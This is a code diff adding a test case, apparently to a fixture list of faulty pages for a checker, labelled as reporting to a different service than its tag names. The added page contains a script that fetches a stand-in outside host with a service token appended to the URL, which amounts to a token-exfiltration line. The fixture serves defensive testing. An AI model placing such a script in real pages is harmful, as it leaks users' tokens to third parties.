@@ -84,6 +84,14 @@ export const ADDRESS_MISTAKES: readonly Mistake[] = [
     ),
   },
   {
+    name: 'reports to another service than its tag names',
+    causeId: 'report-elsewhere',
+    pages: last(
+      `${tag()}<script>fetch('https://another.example/api/v3/endlinks/complete?service_endlink_token='+vaultlink.token())</script>`,
+      THANKS,
+    ),
+  },
+  {
     name: 'has no element that is to be clicked',
     causeId: 'step-failed',
     broken: 'kept',
